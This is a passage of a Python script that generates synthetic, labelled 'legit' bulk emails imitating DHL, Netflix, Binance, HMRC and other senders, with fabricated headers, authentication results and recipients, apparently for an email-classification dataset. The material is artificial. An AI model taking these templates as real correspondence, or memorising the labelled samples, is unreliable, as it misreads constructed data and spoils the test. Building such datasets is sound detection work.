<tr><td style="background:#333366;padding:14px 20px;color:#ffffff;font-size:18px"><b>USPS</b> Informed Delivery&reg;</td></tr>
<tr><td style="padding:20px;font-size:15px;color:#333">
<p style="font-size:20px;color:#333366"><b>COMING TO YOUR MAILBOX SOON</b></p>
<p>Scanned mailpieces for MICHAEL HOLLISTER at 2214 BIRCH HOLLOW DR:</p>
<table width="100%" cellpadding="6" style="border:1px solid #ddd;font-size:13px">
<tr><td><img src="https://informeddelivery.usps.com/box/pages/secure/image/mp/{hx(seed + 'img1', 24)}" width="420" height="190" alt="Scanned Image of your mail piece"></td></tr>
<tr><td><a href="{clk('1')}" style="color:#336">Learn More About Your Mail</a></td></tr>
<tr><td><img src="https://informeddelivery.usps.com/box/pages/secure/image/mp/{hx(seed + 'img2', 24)}" width="420" height="190" alt="Scanned Image of your mail piece"></td></tr>
</table>
<p style="font-size:20px;color:#333366;padding-top:14px"><b>COMING TO YOUR MAILBOX SOON - PACKAGES</b></p>
<p>9400 1118 9922 3874 1055 62 - Expected Delivery Day: Thursday, January 9, 2025</p>
<p><a href="{clk('2')}" style="color:#336">View all of your mail and packages on your Dashboard</a></p>
<p style="font-size:11px;color:#777">You are receiving this Informed Delivery Daily Digest email because you signed up for Informed Delivery. The United States Postal Service will never ask you to pay a fee or update your address through a link in a text or email.
<a href="{clk('u')}" style="color:#777">Unsubscribe</a> | <a href="https://www.usps.com/privacypolicy" style="color:#777">Privacy Policy</a><br>
&copy; 2025 United States Postal Service. 475 L'Enfant Plaza SW, Washington, DC 20260</p>
</td></tr></table>
<img src="https://click.email.informeddelivery.usps.com/open.aspx?ffcb10-{hx(seed + 'op', 50)}" width="1" height="1" alt="">
</body>""")
    headers = gmail_in(seed, t, rcpt, ip, ptr,
                       Auth(envfrom, "pass", "email.informeddelivery.usps.com", "pass", "email.informeddelivery.usps.com",
                            "pass", "200608", policy_="p=REJECT sp=REJECT dis=NONE"), sender)
    add("b35-legit-usps-informed-delivery", "legit", "bulk",
        "Genuine USPS Informed Delivery daily digest (Salesforce Marketing Cloud, email.informeddelivery.usps.com, "
        "auth passes) with scanned-mailpiece images, tracked links and a no-fees warning",
        headers, text(html, "html", "quoted-printable", "us-ascii"))


def l11():
    seed = "l11"
    t = at(2024, 9, 19, 7, 22, 10)
    rcpt = "javier_ruiz@hotmail.es"
    frm = "noreply.odd@dhl.com"
    awb = "7315840926"
    ip = "165.72.200.37"
    ptr = "smtpout37.dhl.com"
    sender = "\n".join([
        dkim("dhl.com", "dhl2022", t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", seed),
        f"Received: from odd-mailer-p04 (10.53.{digits(seed + 'a', 2)}.{digits(seed + 'b', 2)}) by smtpout37.dhl.com with ESMTP; {rfc(t - timedelta(seconds=1), 120)}",
        f"From: {addr('DHL Express', frm)}",
        f"To: {rcpt}",
        f"Subject: {ew(f'DHL On Demand Delivery: su envío {awb} llegará el viernes, 20 de septiembre')}",
        f"Date: {rfc(t - timedelta(seconds=1), 120)}",
        f"Message-ID: <{guid(seed + 'mid')}@odd-mailer-p04.dhl.com>",
        "MIME-Version: 1.0",
    ])
    link = f"https://odd.dhl.com/es-ES/?id={b64url(seed + 'odd', 40)}&awb={awb}"
    html = html_page(f"""<body style="margin:0;background:#f2f2f2">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:Frutiger,Arial,sans-serif"><tr><td align="center" style="padding:20px 0">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="background:#ffcc00;padding:16px 24px"><img src="https://www.dhl.com/content/dam/dhl/global/core/images/logos/dhl-logo.svg" width="120" height="17" alt="DHL"></td></tr>
<tr><td style="padding:24px;font-size:22px;color:#d40511;font-weight:bold">Su envío está en camino</td></tr>
<tr><td style="padding:0 24px;font-size:14px;color:#333;line-height:22px">
<p>Hola Javier,</p>
<p>Su envío de <b>Zalando SE</b> con número de guía <b>{awb}</b> llegará el <b>viernes, 20 de septiembre de 2024</b>, entre las 09:00 y las 14:00.</p>
<p>Si no va a estar en casa, puede elegir otra fecha, dejarlo en un punto DHL ServicePoint o autorizar la entrega a un vecino.</p>
</td></tr>
<tr><td style="padding:16px 24px 26px 24px"><a href="{link}" style="display:inline-block;background:#d40511;color:#ffffff;padding:12px 26px;text-decoration:none;font-weight:bold">Gestionar la entrega</a></td></tr>
<tr><td style="padding:18px 24px;background:#f2f2f2;font-size:11px;color:#666">Todos los derechos de aduana e impuestos de este envío han sido abonados por el remitente. DHL nunca le pedirá el pago de tasas por correo electrónico para envíos con derechos pagados.<br>
DHL Express Spain, S.L.U. - Avda. de Fuentemar, 1 - 28823 Coslada (Madrid). <a href="https://www.dhl.com/es-es/home/pie-de-pagina/aviso-legal.html" style="color:#666">Aviso legal</a></td></tr>
</table></td></tr></table>
</body>""", lang="es")
    plain = f"""Su envío está en camino

Hola Javier,

Su envío de Zalando SE con número de guía {awb} llegará el viernes, 20 de septiembre de 2024, entre las 09:00 y las 14:00.

Gestionar la entrega: {link}

DHL Express Spain, S.L.U.
"""
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth(frm, "pass", "dhl.com", "pass", "dhl.com", "pass", "dhl2022"), sender, lang="es", ctry="DE")
    add("b35-legit-dhl-odd-envio", "legit", "bulk",
        "Genuine DHL Express On Demand Delivery notice (Spanish) for a Zalando parcel from noreply.odd@dhl.com, passing "
        "auth, link to odd.dhl.com, duties already paid by the sender",
        headers, alt(plain, html, f"----=_Part_{digits(seed + 'p', 7)}_{digits(seed + 'q', 9)}.{epoch(t)}{digits(seed + 'r', 3)}"))


def l12():
    seed = "l12"
    t = at(2025, 3, 5, 15, 30, 0)
    rcpt = "bcarver77@hotmail.com"
    frm = "noreply@e-zpassny.com"
    ip = "199.127.232.88"
    ptr = "mailout88.e-zpassny.com"
    sender = "\n".join([
        dkim("e-zpassny.com", "selector1", t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", seed),
        f"Received: from ezpcsc-app07 (10.20.{digits(seed + 'a', 2)}.{digits(seed + 'b', 2)}) by mailout88.e-zpassny.com with ESMTP; {rfc(t - timedelta(seconds=1), -300)}",
        f"From: {addr('E-ZPass New York Customer Service Center', frm)}",
        f"To: {rcpt}",
        "Subject: Your E-ZPass NY Statement Is Available",
        f"Date: {rfc(t - timedelta(seconds=1), -300)}",
        f"Message-ID: <{digits(seed + 'm', 9)}.{digits(seed + 'n', 5)}.{epoch(t)}@ezpcsc-app07>",
        "MIME-Version: 1.0",
    ])
    plain = """Dear E-ZPass Customer,

Your E-ZPass NY statement for account ending in 4471 for the period 02/01/2025 - 02/28/2025 is now
available. To view your statement, sign in to your account at www.e-zpassny.com and select
"Statements" from the Account menu.

Current prepaid balance: $31.40
Replenishment method: Credit card ending in 0095 (automatic)

Please do not reply to this email. This mailbox is not monitored.

E-ZPass NY will never ask you to pay tolls through a link in a text message. If you receive a suspicious
text or email about unpaid tolls, do not click any links. Sign in to your account directly at
www.e-zpassny.com or call the Customer Service Center at 1-800-333-8655.

E-ZPass New York Customer Service Center
"""
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth(frm, "pass", "e-zpassny.com", "pass", "e-zpassny.com", "pass", "selector1"), sender)
    add("b35-legit-ezpass-ny-statement", "legit", "bulk",
        "Genuine plain-text E-ZPass New York 'statement is available' notice from e-zpassny.com (auth passes), no links, "
        "masked account/card numbers and a warning about toll-payment text scams",
        headers, text(plain, "plain", "7bit", "us-ascii"))


def l13():
    seed = "l13"
    t = at(2025, 1, 21, 3, 48, 27)
    rcpt = "alyssa.romero@outlook.com"
    frm = "info@account.netflix.com"
    ip = "54.240.2.117"
    ptr = "a2-117.smtp-out.amazonses.com"
    envfrom = f"0100019488{hx(seed + 's', 6)}-{guid(seed + 'g')}-000000@bounce.account.netflix.com"
    nf = lambda p: f"https://www.netflix.com/{p}?g={guid(seed + p)}&lkid={p.upper().replace('/', '_')}&lnktrk=EVO"  # noqa: E731
    sender = "\n".join([
        dkim("account.netflix.com", "nfdkim1", t, "Content-Type:From:To:Subject:Message-ID:Date:MIME-Version", seed + "1"),
        dkim("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", t,
             "Content-Type:From:To:Subject:Message-ID:Date:MIME-Version:Feedback-ID", seed + "2", bits=1024),
        f"From: {addr('Netflix', frm)}",
        f"To: {rcpt}",
        "Subject: A new device is using your account",
        f"Message-ID: <0100019488{hx(seed + 's', 6)}-{guid(seed + 'g')}-000000@email.amazonses.com>",
        f"Date: {rfc(t - timedelta(seconds=1))}",
        "MIME-Version: 1.0",
        f"Feedback-ID: ::1.us-east-1.{b64(seed + 'fb', 43)}=:AmazonSES",
        f"X-SES-Outgoing: {t:%Y.%m.%d}-{ip}",
    ])
    html = html_page(f"""<body style="margin:0;background:#ffffff">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:'Netflix Sans',Helvetica,Arial,sans-serif"><tr><td align="center">
<table width="500" cellpadding="0" cellspacing="0" style="padding:0 40px">
<tr><td style="padding:28px 0"><img src="https://assets.nflxext.com/us/email/gem/nflx.png" width="24" height="43" alt="Netflix"></td></tr>
<tr><td style="font-size:28px;font-weight:bold;color:#221f1f;padding-bottom:18px">A new device is using your account</td></tr>
<tr><td style="font-size:16px;color:#221f1f;line-height:22px;padding-bottom:18px">Hi Alyssa,<br><br>A new device signed in to your Netflix account, {rcpt}.</td></tr>
<tr><td style="font-size:14px;color:#221f1f;line-height:21px;background:#f2f2f2;padding:14px">Device: Samsung Smart TV<br>Location: Phoenix, Arizona, United States<br>Time: January 20, 8:45 PM MST</td></tr>
<tr><td style="font-size:16px;color:#221f1f;line-height:22px;padding:18px 0">If this was you or someone in your household, enjoy watching!</td></tr>
<tr><td style="font-size:16px;color:#221f1f;line-height:22px;padding-bottom:14px">If it was someone else, please remember that we only allow the people in your household to use your account.</td></tr>
<tr><td style="padding-bottom:24px"><a href="{nf('account/security')}" style="display:block;background:#e50914;color:#ffffff;padding:14px 0;text-align:center;text-decoration:none;font-size:16px;border-radius:4px">Manage Devices</a></td></tr>
<tr><td style="font-size:14px;color:#221f1f;padding-bottom:30px">-The Netflix team</td></tr>
<tr><td style="font-size:11px;color:#a9a6a6;border-top:2px solid #221f1f;padding:20px 0">Questions? Call 1-866-579-7172<br>
<a href="{nf('help')}" style="color:#a9a6a6">Help Center</a><br><br>
This message was mailed to [{rcpt}] by Netflix as part of your Netflix membership.<br>
Netflix Inc. 121 Albright Way, Los Gatos, CA 95032, USA</td></tr>
</table></td></tr></table>
</body>""")
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth(envfrom, "pass", "account.netflix.com", "pass", "account.netflix.com", "pass", "nfdkim1"),
                         sender)
    add("b35-legit-netflix-new-device", "legit", "bulk",
        "Genuine Netflix 'A new device is using your account' notice from info@account.netflix.com via SES with "
        "netflix DKIM and MAIL FROM (DMARC pass), household-sharing wording, links to netflix.com",
        headers, text(html, "html"))


def l14():
    seed = "l14"
    t = at(2025, 10, 12, 8, 3, 41)
    rcpt = "valeria.ortiz.mty@gmail.com"
    frm = "disneyplus@mail.disneyplus.com"
    envfrom = f"bounce-{digits(seed + 'b', 6)}@mail.disneyplus.com"
    ip = "192.174.86.45"
    ptr = "mta-192-174-86-45.sparkpostmail.com"
    sender = "\n".join([
        dkim("mail.disneyplus.com", "scph0524", t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", seed),
        f"Received: from [10.90.{digits(seed + 'a', 2)}.{digits(seed + 'b', 2)}] ([10.90.{digits(seed + 'a', 2)}.{digits(seed + 'b', 2)}:{digits(seed + 'p', 5)})\n"
        f"\tby i-0{hx(seed + 'i', 16)}.mta1vrest.cc.prd.sparkpost (envelope-from <{envfrom}>)\n\t(ecelerity 4.8.0.{digits(seed + 'ec', 5)} r(msys-ecelerity:tags/4.8.0.0^0)) with REST\n"
        f"\tid {hx(seed + 'rid', 2, True)}/{hx(seed + 'rie', 2, True)}-{digits(seed + 'rf', 5)}-{hx(seed + 'rg', 8, True)}; {rfc(t - timedelta(seconds=1))}",
        f"From: {addr('Disney+', frm)}",
        f"To: {rcpt}",
        f"Subject: {ew('Tu recibo de Disney+')}",
        f"Date: {rfc(t - timedelta(seconds=1))}",
        f"Message-ID: <{hx(seed + 'm', 8, True)}.{hx(seed + 'n', 2, True)}.{digits(seed + 'o', 5)}.{hx(seed + 'q', 8, True)}@i-0{hx(seed + 'i', 16)}.mta1vrest.cc.prd.sparkpost>",
        "MIME-Version: 1.0",
    ])
    html = html_page("""<body style="margin:0;background:#f9f9f9">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:Avenir,Helvetica,Arial,sans-serif"><tr><td align="center" style="padding:24px 0">
<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td align="center" style="background:#040714;padding:24px"><img src="https://static-assets.bamgrid.com/product/disneyplus/images/email/logo-disneyplus-white.png" width="120" height="66" alt="Disney+"></td></tr>
<tr><td style="padding:28px 34px;color:#1a1d29;font-size:15px;line-height:23px">
<p style="font-size:22px;font-weight:bold">Gracias por tu pago</p>
<p>Hola, Valeria:</p>
<p>Recibimos el pago de tu suscripción. Estos son los detalles:</p>
<table width="100%" cellpadding="6" style="font-size:14px;border-top:1px solid #ddd">
<tr><td>Plan</td><td align="right">Disney+ Premium (mensual)</td></tr>
<tr><td>Periodo</td><td align="right">12/10/2025 - 11/11/2025</td></tr>
<tr><td>Método de pago</td><td align="right">Mastercard ****5531</td></tr>
<tr><td><b>Total (IVA incluido)</b></td><td align="right"><b>$299.00 MXN</b></td></tr>
<tr><td>Número de pedido</td><td align="right">DPMX-81937265</td></tr>
</table>
<p>Puedes revisar tu suscripción y tu historial de pagos en <b>Cuenta</b> desde la app o en disneyplus.com.</p>
</td></tr>
<tr><td style="padding:18px 34px;font-size:11px;color:#6e6e6e;background:#f9f9f9">Este es un correo electrónico de servicio relacionado con tu suscripción a Disney+. &copy; 2025 Disney y sus entidades relacionadas. The Walt Disney Company (México), S. de R.L. de C.V.</td></tr>
</table></td></tr></table>
</body>""", lang="es")
    headers = gmail_in(seed, t, rcpt, ip, ptr,
                       Auth(envfrom, "pass", "mail.disneyplus.com", "pass", "mail.disneyplus.com", "pass", "scph0524",
                            policy_="p=REJECT sp=REJECT dis=NONE"), sender)
    add("b35-legit-disney-recibo-es", "legit", "bulk",
        "Genuine Disney+ México monthly payment receipt (Spanish) sent via SparkPost from mail.disneyplus.com, auth "
        "passes, no action requested and no links",
        headers, text(html, "html"))


def l15():
    seed = "l15"
    t = at(2025, 9, 30, 10, 15, 8)
    rcpt = "kbrennan@live.com"
    frm = "noreply@email.norton.com"
    envfrom = f"bounce-{digits(seed + 'b', 4)}_HTML-{digits(seed + 'c', 9)}-{digits(seed + 'd', 6)}-{digits(seed + 'e', 7)}-{digits(seed + 'f', 2)}@bounce.email.norton.com"
    ip = "13.111.92.141"
    ptr = "mta.email.norton.com"
    clk = lambda n: f"https://click.email.norton.com/?qs={hx(seed + 'q' + n, 192)}"  # noqa: E731
    sender = "\n".join([
        dkim("email.norton.com", "200608", t, "From:To:Subject:Date:MIME-Version:List-Unsubscribe:Content-Type:Message-ID:"
             "Reply-To:List-ID:X-CSA-Complaints:List-Unsubscribe-Post", seed),
        f"Received: by mta.email.norton.com id {hx(seed + 'rid', 14)} for <{rcpt}>; {rfc(t - timedelta(seconds=1), -360)} (envelope-from <{envfrom}>)",
        f"From: {addr('Norton', frm)}",
        f"To: <{rcpt}>",
        "Subject: Your Norton 360 Deluxe subscription will renew on 14 October 2025",
        f"Date: {rfc(t - timedelta(seconds=1), -360)}",
        "MIME-Version: 1.0",
        f"List-Unsubscribe: <{clk('u')}>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        f"Reply-To: {addr('Norton', 'reply-' + hx(seed + 'rp', 20) + '@reply.email.norton.com')}",
        f"List-ID: <{digits(seed + 'li', 10)}.xt.local>",
        "X-CSA-Complaints: csa-complaints@eco.de",
        f"Message-ID: <{guid(seed + 'mid')}@ind1s01mta{digits(seed + 'mt', 4)}.xt.local>",
        f"Feedback-ID: {digits(seed + 'fb', 7)}:{digits(seed + 'fc', 7)}:{ip}:sfmktgcld",
    ])
    html = html_page(f"""<body style="margin:0;background:#f4f4f4">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:Arial,Helvetica,sans-serif"><tr><td align="center" style="padding:20px 0">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="padding:20px 28px;border-bottom:4px solid #ffc700"><img src="https://image.email.norton.com/lib/fe9313727566047c7d/m/1/norton-logo.png" width="110" height="34" alt="Norton"></td></tr>
<tr><td style="padding:26px 28px;font-size:15px;color:#242424;line-height:23px">
<p style="font-size:21px;font-weight:bold">Your protection will continue automatically</p>
<p>Hi Kieran,</p>
<p>Your <b>Norton 360 Deluxe</b> subscription is set to automatic renewal. Here's what will happen:</p>
<table width="100%" cellpadding="6" style="font-size:14px;background:#f7f7f7">
<tr><td>Renewal date</td><td align="right">14 October 2025</td></tr>
<tr><td>Subscription term</td><td align="right">1 year, up to 5 devices</td></tr>
<tr><td>Renewal price</td><td align="right">&pound;104.99 (incl. VAT)</td></tr>
<tr><td>Payment method</td><td align="right">Visa ending 6630</td></tr>
</table>
<p>You don't need to do anything. If you'd like to change your payment method or turn off automatic renewal, sign in to your Norton account.</p>
<p><a href="{clk('1')}" style="display:inline-block;background:#ffc700;color:#242424;padding:12px 26px;text-decoration:none;font-weight:bold;border-radius:4px">Manage my subscription</a></p>
<p style="font-size:12px;color:#666">You can cancel and request a refund within 60 days of being charged for an annual subscription. Norton will never ask you to call a phone number in an invoice you did not expect.</p>
</td></tr>
<tr><td style="padding:18px 28px;font-size:11px;color:#777;background:#f4f4f4">Gen Digital Inc., 60 E. Rio Salado Parkway, Suite 1000, Tempe, AZ 85281, USA. <a href="{clk('p')}" style="color:#777">Privacy</a> | <a href="{clk('u')}" style="color:#777">Unsubscribe from marketing</a></td></tr>
</table></td></tr></table>
<img src="https://click.email.norton.com/open.aspx?ffcb10-{hx(seed + 'op', 50)}" width="1" height="1" alt="">
</body>""")
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth(envfrom, "pass", "email.norton.com", "pass", "email.norton.com", "pass", "200608"),
                         sender, ctry="US")
    add("b35-legit-norton-auto-renewal", "legit", "bulk",
        "Genuine Norton 360 auto-renewal reminder (GBP 104.99) from email.norton.com via Salesforce Marketing Cloud, "
        "auth passes, tracked 'Manage my subscription' link to the Norton account",
        headers, text(html, "html"))


def l16():
    seed = "l16"
    t = at(2025, 11, 1, 14, 22, 9)
    rcpt = "pedrohenrique.alves@outlook.com"
    frm = "do-not-reply@ses.binance.com"
    ses_id = f"0100019a{hx(seed + 's1', 8)}-{guid(seed + 's2')}-000000"
    envfrom = f"{ses_id}@ses.binance.com"
    ip = "54.240.11.69"
    ptr = "a11-69.smtp-out.amazonses.com"
    sender = "\n".join([
        dkim("ses.binance.com", "bnc1", t, "Content-Type:From:To:Subject:Message-ID:Date:MIME-Version", seed + "1"),
        dkim("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", t,
             "Content-Type:From:To:Subject:Message-ID:Date:MIME-Version:Feedback-ID", seed + "2", bits=1024),
        f"From: {addr('Binance', frm)}",
        f"To: {rcpt}",
        f"Subject: {ew('[Binance] Login realizado a partir de novo dispositivo - ' + (t - timedelta(seconds=40)).strftime('%Y-%m-%d %H:%M:%S') + ' (UTC)')}",
        f"Message-ID: <{ses_id}@email.amazonses.com>",
        f"Date: {rfc(t - timedelta(seconds=1))}",
        "MIME-Version: 1.0",
        f"Feedback-ID: ::1.us-east-1.{b64(seed + 'fb', 43)}=:AmazonSES",
        f"X-SES-Outgoing: {t:%Y.%m.%d}-{ip}",
    ])
    html = html_page(f"""<body style="margin:0;background:#ffffff;font-family:BinancePlex,Arial,sans-serif">
<table width="600" align="center" cellpadding="0" cellspacing="0">
<tr><td style="padding:20px 24px"><img src="https://public.bnbstatic.com/image/cms/content/body/202202/binance-logo.png" width="120" height="24" alt="Binance"></td></tr>
<tr><td style="padding:10px 24px;font-size:20px;color:#1e2329;font-weight:bold">Login realizado a partir de novo dispositivo</td></tr>
<tr><td style="padding:10px 24px;font-size:14px;color:#474d57;line-height:22px">
<p>A sua conta Binance fez login a partir de um novo dispositivo.</p>
<p>Dispositivo: Chrome V142.0.0.0 (Windows)<br>Hora: {(t - timedelta(seconds=40)).strftime('%Y-%m-%d %H:%M:%S')} (UTC)<br>Endereço IP: 189.6.{digits(seed + 'ip1', 2)}.{digits(seed + 'ip2', 2)}<br>Localização: São Paulo, Brasil</p>
<p>Se esta atividade não foi realizada por si, altere a sua senha e desative a sua conta imediatamente:</p>
<p><a href="https://accounts.binance.com/pt-BR/disable-account?token={hx(seed + 'tk', 32)}" style="color:#c99400">Desativar conta</a></p>
<p style="font-size:12px;color:#707a8a">Para verificar se um e-mail, número de telefone ou link é oficial, use o <a href="https://www.binance.com/pt-BR/official-verification" style="color:#c99400">Binance Verify</a>.<br>
Este é um e-mail automático, por favor não responda.</p>
</td></tr>
<tr><td style="padding:16px 24px;font-size:11px;color:#929aa5;border-top:1px solid #eaecef">&copy; 2025 Binance.com, Todos os direitos reservados.</td></tr>
</table>
</body>""", lang="pt-BR")
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth(envfrom, "pass", "ses.binance.com", "pass", "ses.binance.com", "pass", "bnc1"),
                         sender, lang="pt")
    add("b35-legit-binance-novo-login", "legit", "bulk",
        "Genuine Binance new-device login alert in Portuguese from do-not-reply@ses.binance.com via SES (DMARC pass), "
        "with the real 'Desativar conta' link on accounts.binance.com and the Binance Verify pointer",
        headers, text(html, "html"))


def l17():
    seed = "l17"
    t = at(2025, 6, 11, 8, 30, 12)
    rcpt = "olivia.harcourt@outlook.com"
    frm = "noreply@confirmation.tax.service.gov.uk"
    ip = "54.240.7.24"
    ptr = "a7-24.smtp-out.eu-west-2.amazonses.com"
    ses_id = f"0102019{hx(seed + 's1', 9)}-{guid(seed + 's2')}-000000"
    sender = "\n".join([
        dkim("confirmation.tax.service.gov.uk", "hmrcdkim", t, "Content-Type:From:To:Subject:Message-ID:Date:MIME-Version",
             seed + "1"),
        dkim("amazonses.com", "shh3fegwg5fppqsuzphvschd53n6ihuv", t,
             "Content-Type:From:To:Subject:Message-ID:Date:MIME-Version:Feedback-ID", seed + "2", bits=1024),
        f"From: {addr('HMRC', frm)}",
        f"To: {rcpt}",
        "Subject: You have a new message from HMRC",
        f"Message-ID: <{ses_id}@eu-west-2.amazonses.com>",
        f"Date: {rfc(t - timedelta(seconds=1))}",
        "MIME-Version: 1.0",
        f"Feedback-ID: ::1.eu-west-2.{b64(seed + 'fb', 43)}=:AmazonSES",
        f"X-SES-Outgoing: {t:%Y.%m.%d}-{ip}",
    ])
    plain = """GOV.UK

HM Revenue & Customs

Dear Olivia Harcourt

You have a new message about your Self Assessment.

Sign in to your HMRC online account to read it. For your security, we have not included a link with this email.

To make sure that you continue to receive our emails, please add noreply@confirmation.tax.service.gov.uk to your address book.

If you think this email might be a scam, do not reply. Forward it to phishing@hmrc.gov.uk and then delete it.

From HMRC

This email was sent from an unmonitored mailbox, so please do not reply.
"""
    html = html_page("""<body style="font-family:Arial,sans-serif;margin:0;color:#0b0c0c">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td style="background:#0b0c0c;padding:10px 20px"><span style="color:#ffffff;font-size:28px;font-weight:700">GOV.UK</span></td></tr></table>
<table width="580" cellpadding="0" cellspacing="0" style="margin:0 0 0 20px"><tr><td style="font-size:19px;line-height:25px;padding-top:20px">
<p style="border-left:4px solid #00703c;padding-left:12px"><b>HM Revenue &amp; Customs</b></p>
<p>Dear Olivia Harcourt</p>
<p>You have a new message about your Self Assessment.</p>
<p>Sign in to your HMRC online account to read it. For your security, we have not included a link with this email.</p>
<p>To make sure that you continue to receive our emails, please add noreply@confirmation.tax.service.gov.uk to your address book.</p>
<p>If you think this email might be a scam, do not reply. Forward it to phishing@hmrc.gov.uk and then delete it.</p>
<p>From HMRC</p>
<p style="font-size:16px;color:#505a5f">This email was sent from an unmonitored mailbox, so please do not reply.</p>
</td></tr></table>
</body>""")
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth(f"{ses_id}@confirmation.tax.service.gov.uk", "pass", "confirmation.tax.service.gov.uk", "pass",
                              "confirmation.tax.service.gov.uk", "pass", "hmrcdkim"), sender, ctry="GB")
    add("b35-legit-hmrc-new-message", "legit", "bulk",
        "Genuine HMRC 'You have a new message' notice from confirmation.tax.service.gov.uk (SES, DMARC pass) that "
        "deliberately contains no link and tells the taxpayer to sign in directly",
        headers, alt(plain, html, f"==============={digits(seed + 'bd', 19)}=="))


def l18():
    seed = "l18"
    t = at(2025, 7, 31, 13, 0, 18)
    rcpt = "thiago.nunes_ba@hotmail.com"
    frm = "livelo@comunicacao.livelo.com.br"
    envfrom = f"bounce-{digits(seed + 'b', 4)}_HTML-{digits(seed + 'c', 9)}-{digits(seed + 'd', 6)}-{digits(seed + 'e', 7)}-{digits(seed + 'f', 2)}@bounce.comunicacao.livelo.com.br"
    ip = "13.111.84.77"
    ptr = "mta.comunicacao.livelo.com.br"
    clk = lambda n: f"https://click.comunicacao.livelo.com.br/?qs={hx(seed + 'q' + n, 192)}"  # noqa: E731
    sender = "\n".join([
        dkim("comunicacao.livelo.com.br", "200608", t, "From:To:Subject:Date:MIME-Version:List-Unsubscribe:Content-Type:"
             "Message-ID:Reply-To:List-ID:X-CSA-Complaints:List-Unsubscribe-Post", seed),
        f"Received: by mta.comunicacao.livelo.com.br id {hx(seed + 'rid', 14)} for <{rcpt}>; {rfc(t - timedelta(seconds=1), -360)} (envelope-from <{envfrom}>)",
        f"From: {addr('Livelo', frm)}",
        f"To: <{rcpt}>",
        f"Subject: {ew('Thiago, até 10 pontos por real na Centauro + ofertas da semana')}",
        f"Date: {rfc(t - timedelta(seconds=1), -360)}",
        "MIME-Version: 1.0",
        f"List-Unsubscribe: <{clk('u')}>, <mailto:leave-{hx(seed + 'l', 60)}@leave.comunicacao.livelo.com.br>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        f"Reply-To: {addr('Livelo', 'reply-' + hx(seed + 'rp', 20) + '@reply.comunicacao.livelo.com.br')}",
        f"List-ID: <{digits(seed + 'li', 10)}.xt.local>",
        "X-CSA-Complaints: csa-complaints@eco.de",
        f"Message-ID: <{guid(seed + 'mid')}@ind1s06mta{digits(seed + 'mt', 4)}.xt.local>",
        f"Feedback-ID: {digits(seed + 'fb', 7)}:{digits(seed + 'fc', 7)}:{ip}:sfmktgcld",
    ])
    offers = [("Centauro", "até 10 pts/R$"), ("Magalu", "até 4 pts/R$"), ("Netshoes", "até 8 pts/R$"),
              ("Booking.com", "até 6 pts/R$")]
    rows = "\n".join(
        f'<td width="25%" align="center" style="padding:8px;font-size:13px;color:#333"><a href="{clk(str(i))}" style="color:#333;text-decoration:none">'
        f'<img src="https://image.comunicacao.livelo.com.br/lib/fe8e13727566057a7d/m/1/parceiro_{i}.png" width="110" height="60" alt="{n}"><br><b>{n}</b><br>'
        f'<span style="color:#e6007e">{p}</span></a></td>' for i, (n, p) in enumerate(offers))
    html = html_page(f"""<body style="margin:0;background:#f2f2f2">
<div style="display:none;max-height:0;overflow:hidden">Pontos em dobro, triplo e muito mais: aproveite antes que acabe.</div>
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:Arial,Helvetica,sans-serif"><tr><td align="center" style="padding:16px 0">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td align="center" style="background:#e6007e;padding:16px"><a href="{clk('h')}"><img src="https://image.comunicacao.livelo.com.br/lib/fe8e13727566057a7d/m/1/logo-livelo-branco.png" width="110" height="36" alt="Livelo"></a></td></tr>
<tr><td style="padding:24px 24px 8px 24px;font-size:22px;color:#333;font-weight:bold">Thiago, acumule mais nas suas compras</td></tr>
<tr><td style="padding:0 24px 16px 24px;font-size:14px;color:#666">Seu saldo: <b>3.812 pontos</b> - ofertas válidas até 03/08/2025.</td></tr>
<tr><td style="padding:0 16px"><table width="100%" cellpadding="0" cellspacing="0"><tr>
{rows}
</tr></table></td></tr>
<tr><td align="center" style="padding:20px"><a href="{clk('all')}" style="background:#e6007e;color:#fff;padding:12px 30px;border-radius:24px;text-decoration:none;font-weight:bold">Ver todas as ofertas</a></td></tr>
<tr><td style="padding:18px 24px;font-size:10px;color:#999;background:#f7f7f7;line-height:15px">Pontuação válida para compras feitas a partir do link Livelo, conforme regulamento de cada parceiro. A Livelo não envia e-mails pedindo senha, dados de cartão ou pagamento de frete para resgate de pontos.<br>
Livelo S.A. - CNPJ 12.888.241/0001-06. <a href="{clk('u')}" style="color:#999">Descadastre-se</a> | <a href="{clk('p')}" style="color:#999">Política de privacidade</a></td></tr>
</table></td></tr></table>
<img src="https://click.comunicacao.livelo.com.br/open.aspx?ffcb10-{hx(seed + 'op', 50)}" width="1" height="1" alt="">
</body>""", lang="pt-BR")
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth(envfrom, "pass", "comunicacao.livelo.com.br", "pass", "comunicacao.livelo.com.br", "pass",
                              "200608"), sender, lang="pt", bulk=True)
    add("b35-legit-livelo-ofertas", "legit", "bulk",
        "Genuine Livelo partner-offers newsletter (comunicacao.livelo.com.br via Salesforce Marketing Cloud, auth passes) "
        "full of click-tracked partner links, preheader, points balance and one-click unsubscribe",
        headers, text(html, "html"))


def l19():
    seed = "l19"
    t = at(2025, 10, 6, 16, 20, 31)
    rcpt = "andrea.salinas.gdl@gmail.com"
